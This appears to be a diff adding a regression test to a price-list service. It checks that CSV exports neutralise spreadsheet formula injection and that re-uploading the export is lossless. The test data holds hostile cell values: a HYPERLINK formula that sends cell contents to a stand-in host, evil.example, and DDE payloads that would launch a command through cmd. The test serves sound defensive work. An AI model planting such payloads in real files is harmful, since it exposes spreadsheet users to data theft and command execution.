@@ -2,6 +2,7 @@ import assert from 'node:assert/strict'
 import { after, before, beforeEach, describe, test } from 'node:test'
 import ExcelJS from 'exceljs'
 import type { FastifyInstance } from 'fastify'
+import Papa from 'papaparse'
 import {
   changeCount,
   clearGlassPrices,
@@ -231,6 +232,50 @@ eachDatabase('glass price list: upload and download', (ctx) => {
         (await stored()).map((row) => row.slice(0, 5)).sort(),
         before.map((row) => row.slice(0, 5)).sort(),
       )
+    })
+
+    test('hostile models export with no live formula (plain and excel=true) and upload back unchanged', async () => {
+      const hostile = [
+        '=HYPERLINK("http://evil.example/?"&A1,"RB01")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        '\t=1+1',
+        '\r=2+2',
+        '-RB01',
+        "'quoted",
+        "'=already",
+      ]
+      await seedEntries(
+        ctx.db,
+        hostile.map((model, index) => ({
+          manufacturer: index === 0 ? '=cmd|"/C calc"!A0' : 'Safe',
+          brand: index === 1 ? '@brand' : 'Brand',
+          model,
+          price: 100 + index,
+          purchase: 50,
+        })),
+      )
+      const before = await stored()
+      for (const query of ['', '?excel=true']) {
+        const response = await download(query)
+        assert.equal(response.statusCode, 200)
+        const cells = Papa.parse<string[]>(response.body.replace(/^\ufeff/, ''), {
+          delimiter: query ? ';' : ',',
+          skipEmptyLines: true,
+        }).data.flat()
+        const live = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))
+        assert.deepEqual(live, [], `no cell a spreadsheet runs as a formula (${query || 'plain'})`)
+        assert.ok(cells.includes(`'${hostile[0]}`) && cells.includes("'-RB01") && cells.includes("''quoted"))
+        await clearGlassPrices(ctx.db)
+        const back = await upload(response.rawPayload)
+        assert.equal(back.statusCode, 200, back.body)
+        assert.deepEqual(
+          (await stored()).map((row) => row.slice(0, 5)),
+          before.map((row) => row.slice(0, 5)),
+          `the round trip is lossless (${query || 'plain'})`,
+        )
+      }
     })
 
     test('XLSX export opens with exceljs with the same rows, prices as numbers', async () => {
